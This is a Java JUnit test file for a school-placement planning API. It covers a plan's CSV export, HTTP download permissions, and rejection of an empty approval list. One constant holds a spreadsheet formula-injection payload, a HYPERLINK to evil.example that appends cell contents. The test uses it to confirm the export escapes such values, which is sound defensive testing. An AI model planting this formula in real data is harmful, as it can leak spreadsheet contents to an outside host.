package uk.sendplan.api.planning;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.graphql.execution.ErrorType;
import org.springframework.graphql.test.tester.HttpGraphQlTester;
import org.springframework.http.HttpHeaders;
import org.springframework.test.web.reactive.server.WebTestClient;
import uk.sendplan.api.GraphQlTestBase;
import uk.sendplan.api.system.Csv;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static uk.sendplan.api.planning.ScillyWorld.*;
import static uk.sendplan.db.jooq.Tables.PLACEMENT;

/** A plan's CSV on the Scilly test world: safe to open in a spreadsheet, also a file over HTTP; and approving nothing. */
class PlanExportTest extends GraphQlTestBase {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")";

    HttpGraphQlTester commissioner;
    ScillyWorld world;

    @BeforeEach
    void world() {
        commissioner = asCommissioner(LA);
        world = new ScillyWorld(graphQl, commissioner, db).reset();
    }

    /** Three SEMH/ASD secondary children, placed in the independent school (and the special school); returns the plan's id. */
    private String completedPlan(String prefix) throws InterruptedException {
        world.child(prefix + "-1", "SEMH", 12, 3, 91_000, 11_000, "2027-AUTUMN");
        world.child(prefix + "-2", "SEMH", 13, 3, 91_100, 11_100, "2027-AUTUMN");
        world.child(prefix + "-3", "ASD", 13, 3, 90_500, 10_700, "2027-AUTUMN");
        String planId = commissioner.documentName("startPlan").variable("input", Map.of("scope", "LOCAL_AUTHORITY", "code", LA,
                "financialYear", YEAR, "timeLimitSeconds", 2)).execute().path("startPlan.plan.id").entity(String.class).get();
        for (int i = 0; i < 600; i++) {
            String status = commissioner.documentName("planStatus").variable("id", planId).execute().path("plan.status").entity(String.class).get();
            if (!List.of("QUEUED", "SOLVING").contains(status)) {
                assertThat(status).isEqualTo("COMPLETED");
                return planId;
            }
            Thread.sleep(100);
        }
        throw new AssertionError("plan " + planId + " still running after 60 s");
    }

    private String graphQlCsv(String planId) {
        return commissioner.documentName("planCsv").variable("id", planId).execute().path("planCsv").entity(String.class).get();
    }

    @Test
    void aSettingNamedLikeAFormulaIsTextInThePlansCsvAndTheFiguresStayNumbers() throws Exception {
        graphQl.documentName("updateSetting").variable("input", Map.of("urn", INDEPENDENT, "name", HYPERLINK)).execute()
                .path("updateSetting.setting.name").entity(String.class).isEqualTo(HYPERLINK);
        try {
            String csv = graphQlCsv(completedPlan("FORMULA"));
            List<Csv.Row> rows = Csv.parse(csv);
            List<String> header = rows.getFirst().fields();
            List<Map<String, String>> independent = rows.subList(1, rows.size()).stream().map(r -> {
                Map<String, String> row = new HashMap<>();
                for (int i = 0; i < header.size(); i++) {
                    row.put(header.get(i), r.fields().get(i));
                }
                return row;
            }).filter(r -> r.get("setting_urn").equals(String.valueOf(INDEPENDENT))).toList();
            assertThat(independent).isNotEmpty().allSatisfy(row -> {
                assertThat(row.get("setting_name")).isEqualTo("'" + HYPERLINK);
                assertThat(row.get("fee")).matches("[0-9]+\\.[0-9]{2}");
                assertThat(row.get("penalties")).isEqualTo("independent setting: 5000.00");
            });
        } finally {
            graphQl.documentName("updateSetting").variable("input", Map.of("urn", INDEPENDENT, "name", "Scilly Test Independent School")).execute()
                    .path("updateSetting.setting.name").entity(String.class).isEqualTo("Scilly Test Independent School");
        }
    }

    private WebTestClient.ResponseSpec get(String subject, String uri) {
        return WebTestClient.bindToServer().baseUrl("http://localhost:" + port).responseTimeout(Duration.ofSeconds(60)).build()
                .get().uri(uri).headers(h -> {
                    if (subject != null) {
                        h.set("Authorization", authorization(subject));
                    }
                }).exchange();
    }

    @Test
    void thePlansCsvIsAlsoAFileOverHttpForItsReadersOnly() throws Exception {
        String planId = completedPlan("DOWNLOAD");
        String uri = "/exports/plans/" + planId + ".csv";
        byte[] body = get("test-commissioner-" + LA, uri).expectStatus().isOk()
                .expectHeader().contentType("text/csv;charset=UTF-8")
                .expectHeader().valueEquals(HttpHeaders.CONTENT_DISPOSITION, "attachment; filename=\"plan-" + planId + "-isles-of-scilly-"
                        + LocalDate.now(ZoneId.of("Europe/London")) + ".csv\"")
                .expectBody().returnResult().getResponseBody();
        assertThat(new String(body, StandardCharsets.UTF_8)).isEqualTo(graphQlCsv(planId));

        // refused alike whether the plan is someone else's, doesn't exist or isn't even an id
        String outOfScope = "planCsv: not found in your scope\n";
        get(user("test-commissioner-202", "COMMISSIONER", "202", null, null), uri).expectStatus().isForbidden()
                .expectBody(String.class).isEqualTo(outOfScope);
        get("test-commissioner-" + LA, "/exports/plans/987654321.csv").expectStatus().isForbidden().expectBody(String.class).isEqualTo(outOfScope);
        get("test-commissioner-" + LA, "/exports/plans/abc.csv").expectStatus().isForbidden().expectBody(String.class).isEqualTo(outOfScope);
        // the region's planner sees the plan's summary, never its children; the regulator no plan at all
        get(user("test-planner-E12000009", "REGIONAL_PLANNER", null, "E12000009", null), uri).expectStatus().isForbidden();
        get("regulator", uri).expectStatus().isForbidden();
        get(null, uri).expectStatus().isUnauthorized();
    }

    @Test
    void approvingAnEmptyListOfRequestsSaysItIsEmptyAndChangesNothing() throws Exception {
        String planId = completedPlan("EMPTY");
        int placements = db.fetchCount(PLACEMENT);
        commissioner.documentName("approvePlan").variable("input", Map.of("planId", planId, "requestIds", List.of())).execute()
                .errors().expect(e -> e.getErrorType() == ErrorType.BAD_REQUEST && e.getMessage().equals("input.requestIds: is empty; name at "
                        + "least one request, or leave requestIds out to approve all your LA's proposed placements in the plan")).verify()
                .path("approvePlan").pathDoesNotExist();
        assertThat(db.fetchCount(PLACEMENT)).isEqualTo(placements);
        commissioner.documentName("planResult").variable("id", planId).execute()
                .path("plan.assignments.edges[*].node.request.status").entityList(String.class)
                .satisfies(statuses -> assertThat(statuses).isNotEmpty().containsOnly("PROPOSED"));
    }
}
